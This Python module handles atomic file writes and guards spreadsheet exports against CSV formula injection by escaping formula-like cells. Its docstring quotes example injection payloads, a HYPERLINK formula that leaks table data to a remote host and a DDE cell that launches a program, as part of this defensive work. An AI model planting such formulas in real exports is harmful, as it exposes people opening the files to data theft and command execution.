"""What every export does so that its file is never half-written and is safe to open in a spreadsheet.

**Atomic files.** An export writes a hidden temporary file beside its target, flushes it to the disk and renames
it over the target (``writing``): a failure (a full disk, a cancelled job, a refused table) leaves the previous file
exactly as it was and removes the temporary one, and the message names the file. Writing in place, a full disk
left a 0-byte or truncated file where the previous one was, and said ``error: : No space left on device``.

**Formula injection** (OWASP, "CSV Injection"). A spreadsheet opening a CSV, TSV or XLSX file runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula: a category named
``=HYPERLINK("http://…?leak="&A1, "…")`` sends the table away, ``=cmd|' /C calc'!A0`` starts a program. In CSV and
TSV such a text cell gets a leading apostrophe (``spreadsheet_text``), which spreadsheets show as the text itself;
a cell that is a plain number (``-0.25``) is left alone. In XLSX a text cell is always of the string type, never
a formula, and formula-like ones carry Excel's quote prefix (``neutralise_workbook``). tsqe's own importers read
the apostrophe back off (``from_spreadsheet``), so every export imports back unchanged: the rule is reversible,
since a text that already starts with apostrophes before such a character gets one more.
"""
from __future__ import annotations

import errno
import os
import re
import secrets
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any, TextIO

from suite.errors import TsqeError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet takes as the start of a formula (OWASP's list)."""
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _looks_like_formula(text: str) -> bool:
    stripped = text.lstrip("'")
    return stripped.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(stripped)


def spreadsheet_text(text: str) -> str:
    """``text`` as a CSV or TSV cell that no spreadsheet runs as a formula."""
    return "'" + text if _looks_like_formula(text) else text


def from_spreadsheet(text: str) -> str:
    """The text ``spreadsheet_text`` was given: the apostrophe it added taken off again."""
    return text[1:] if text.startswith("'") and _looks_like_formula(text[1:]) else text


def spreadsheet_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells and column names are ``spreadsheet_text``, for ``to_csv``."""
    safe = frame.copy()
    safe.columns = [spreadsheet_text(str(name)) for name in safe.columns]
    for column in safe.columns:
        if safe[column].dtype == object or str(safe[column].dtype) in ("string", "str"):
            safe[column] = safe[column].map(lambda value: spreadsheet_text(value) if isinstance(value, str) else value)
    return safe


def neutralise_workbook(workbook: Any) -> None:
    """Make every formula-like text cell of an openpyxl workbook a string cell with Excel's quote prefix (openpyxl
    stores a text starting with ``=`` as a live formula)."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and (cell.data_type == "f" or _looks_like_formula(cell.value)):
                    cell.data_type = "s"
                    cell.quotePrefix = True


def figure_text(text: str) -> str:
    """``text`` as a matplotlib figure draws it, letter for letter: matplotlib reads a text between two ``$`` as a
    formula (mathtext), so a category named ``$\\foo$`` made every chart and figure export fail ("Unknown symbol"),
    and ``$x^2$`` was drawn as a formula. An escaped dollar is drawn as a dollar."""
    return text.replace("$", r"\$")


@contextmanager
def writing(path: str | os.PathLike[str]) -> Iterator[Path]:
    """A temporary path beside ``path`` (hidden, with the same suffix, so that writers that go by the suffix
    choose the same format) to write the whole file to; renamed over ``path`` when the block ends, removed when
    it fails, leaving the previous file as it was. An operating system's refusal is a ``TsqeError`` naming
    ``path``."""
    target = Path(path)
    temporary = target.with_name(f".{target.stem}.{secrets.token_hex(4)}.part{target.suffix}")
    try:
        yield temporary
        with temporary.open("rb+") as file:  # what the disk could not take shows here, not after the rename
            os.fsync(file.fileno())
        os.replace(temporary, target)
    except OSError as error:
        _remove(temporary)
        raise _write_error(error, target) from error
    except BaseException:
        _remove(temporary)
        raise


def _remove(path: Path) -> None:
    try:
        path.unlink(missing_ok=True)
    except OSError:
        pass  # the failure being reported matters more than the leftover


def _write_error(error: OSError, target: Path) -> TsqeError:
    kept = "the previous file was left as it was" if target.exists() else "nothing was written"
    reason = "the disk is full (No space left on device)" if error.errno == errno.ENOSPC else \
        error.strerror or str(error)
    return TsqeError(f"{target}: {reason}; {kept}")


def write_text_files(texts: Mapping[Path, str]) -> None:
    """Files that belong together (the files of one folder export), written as one: each to its temporary file
    first, and only when every one is written are they renamed into place, so that a full disk midway leaves
    every previous file as it was, not some old and some new. Folders are made as needed."""
    with ExitStack() as stack:
        for path, text in texts.items():
            path.parent.mkdir(parents=True, exist_ok=True)
            stack.enter_context(writing(path)).write_text(text, encoding="utf-8")


@contextmanager
def writing_text(path: str | os.PathLike[str]) -> Iterator[TextIO]:
    """``writing`` for a UTF-8 text file written through a stream (line ends as written)."""
    with writing(path) as temporary, temporary.open("w", encoding="utf-8", newline="") as file:
        yield file
